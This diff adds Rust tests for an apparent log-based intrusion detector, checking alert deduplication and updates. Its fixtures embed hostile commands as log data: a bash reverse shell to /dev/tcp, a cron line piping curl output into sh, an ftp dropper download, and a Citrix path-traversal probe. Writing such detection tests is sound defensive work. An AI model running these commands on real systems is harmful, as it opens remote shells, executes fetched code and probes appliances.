@@ -5,7 +5,7 @@ use std::path::{Path, PathBuf};
 
 use chrono::{DateTime, Duration, Utc};
 use gatewatch::detect::examples::{self, document};
-use gatewatch::detect::{DetectOptions, RuleSet, Worker};
+use gatewatch::detect::{DetectOptions, Publish, RuleSet, Worker};
 use gatewatch::parse::ParseContext;
 use serde_json::{json, Map, Value};
 
@@ -137,6 +137,103 @@ fn a_scanner_is_one_alert_that_counts_its_requests() {
     assert_eq!(alerts[1].id, alerts[0].id);
     assert_eq!(alerts[1].doc["gatewatch"]["count"], 10_000);
     assert_eq!(alerts[1].doc["gatewatch"]["stage"], "probe");
+    // The second publication is an update of the first, and says so.
+    assert!(!alerts[0].update && alerts[1].update);
+    assert_eq!(alerts[1].doc["event"]["action"], "alert-updated");
+    assert!(alerts[0].doc["event"].get("action").is_none());
+}
+
+fn bash(when: &str, user: &str, command: &str) -> String {
+    format!(r#"Jan 15 {when} <local7.notice> gw-nyc-01 bash[5001]: {user} on /dev/pts/0 shell_command="{command}""#)
+}
+
+fn cron(minute: u32) -> String {
+    format!(
+        "Jan 20 23:{minute:02}:05 <cron.info> gw-nyc-01 /usr/sbin/cron[{}]: (nobody) CMD (curl http://198.51.100.33/ci.sh | sh > /dev/null 2>&1)",
+        20_000 + minute
+    )
+}
+
+#[test]
+fn a_new_post_exploitation_step_within_the_window_raises_its_own_alert() {
+    let options = options();
+    let (set, _) = RuleSet::load(&[root().join("rules")], &options);
+    let lines = [
+        bash("09:00:05", "root", "/usr/bin/ftp -o /tmp/bsd ftp://198.51.100.220/bsd"),
+        bash("09:00:35", "root", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"),
+        // The first step again, spelt with other spacing: the same behaviour, folded into its alert.
+        bash("09:00:50", "root", "/usr/bin/ftp  -o /tmp/bsd   ftp://198.51.100.220/bsd"),
+    ];
+    let alerts = run(&set, &options, &lines);
+    let new: Vec<_> = alerts.iter().filter(|a| !a.update).collect();
+    assert_eq!(new.len(), 2, "{alerts:#?}");
+    assert_ne!(new[0].id, new[1].id);
+    assert_eq!(new[0].doc["gatewatch"]["behaviour"]["selections"], json!(["dropper"]));
+    assert_eq!(new[1].doc["gatewatch"]["behaviour"]["selections"], json!(["reverse_shell"]));
+    let update: Vec<_> = alerts.iter().filter(|a| a.update).collect();
+    assert_eq!(update.len(), 1);
+    assert_eq!(update[0].id, new[0].id);
+    assert_eq!(update[0].doc["gatewatch"]["count"], 2);
+}
+
+#[test]
+fn a_cron_line_repeated_for_an_hour_is_one_alert_that_counts_them() {
+    let options = options();
+    let (set, _) = RuleSet::load(&[root().join("rules")], &options);
+    let lines: Vec<String> = (0..60).map(cron).collect();
+    let live = run(&set, &options, &lines);
+    assert_eq!(live.len(), 2, "the alert, then its update");
+    assert_eq!(live[0].id, live[1].id);
+    assert_eq!(live[1].doc["gatewatch"]["count"], 60);
+    assert_eq!(live[1].doc["gatewatch"]["suppressed"], 59);
+    assert_eq!(live[1].doc["gatewatch"]["last_seen"], "2020-01-20T23:59:05.000Z");
+
+    // A replay publishes each alert once, in that final state.
+    let mut worker = Worker::new(Publish::Final);
+    let mut replayed = Vec::new();
+    for (i, line) in lines.iter().enumerate() {
+        let d = doc(line);
+        replayed.extend(worker.evaluate(&set, &options, &d, json!({"file": "t", "line": i + 1}), at(&d), at(&d)));
+    }
+    assert!(replayed.is_empty(), "nothing before the window closes");
+    replayed.extend(worker.flush_all());
+    assert_eq!(replayed.len(), 1);
+    assert_eq!(replayed[0].id, live[0].id);
+    assert_eq!(replayed[0].doc["gatewatch"]["count"], 60);
+    assert!(!replayed[0].update);
+}
+
+#[test]
+fn an_appfw_record_is_a_web_request_to_the_rules_and_one_request_in_two_logs_alerts_once() {
+    let options = options();
+    let (set, _) = RuleSet::load(&[root().join("rules")], &options);
+    let cef = "Jan 11 10:00:00 <local0.info> gw-lon-01 CEF:0|Citrix|NetScaler|NS13.0|APPFW|APPFW_STARTURL|6|src=203.0.113.9 spt=47606 method=GET request=https://host/vpn/../vpns/cfg/smb.conf msg=Disallow Illegal URL. cn1=1 cn2=2 cs1=pr cs2=PPE1 cs3=x cs4=ALERT cs5=2020 act=blocked";
+    let d = doc(cef);
+    assert_eq!(d["event"]["category"], json!(["web"]));
+    assert_eq!(d["gatewatch"]["url"]["normalized_path"], "/vpns/cfg/smb.conf");
+    let alerts = run(&set, &options, &[cef.to_owned()]);
+    assert_eq!(alerts.len(), 1);
+    assert_eq!(alerts[0].rule_id, "gw-citrix-cve-2019-19781-probe");
+
+    // The same request in the access log a second later: still one alert, counted once.
+    let access_line = access("203.0.113.9", "11/Jan/2020:10:00:01", "GET", "/vpn/../vpns/cfg/smb.conf", 200);
+    let both = run(&set, &options, &[cef.to_owned(), access_line.clone()]);
+    assert_eq!(both.len(), 1, "{both:#?}");
+    assert_eq!(both[0].doc["gatewatch"]["count"], 1);
+    // A second request in the access log a minute later is a repeat of the probe (counted). The
+    // appliance's own access log names no host: a replay takes it from the directory, as here.
+    let later = access("203.0.113.9", "11/Jan/2020:10:01:01", "GET", "/vpn/../vpns/cfg/smb.conf", 200);
+    let mut worker = Worker::default();
+    let mut three = Vec::new();
+    for (i, line) in [cef.to_owned(), access_line, later].iter().enumerate() {
+        let mut d = doc(line);
+        let observer = d.entry("observer").or_insert_with(|| json!({}));
+        observer.as_object_mut().unwrap().entry("hostname").or_insert_with(|| json!("gw-lon-01"));
+        three.extend(worker.evaluate(&set, &options, &d, json!({"file": "t", "line": i + 1}), at(&d), at(&d)));
+    }
+    three.extend(worker.flush_all());
+    assert_eq!(three.len(), 2, "{three:#?}");
+    assert_eq!(three[1].doc["gatewatch"]["count"], 2, "{three:#?}");
 }
 
 #[test]
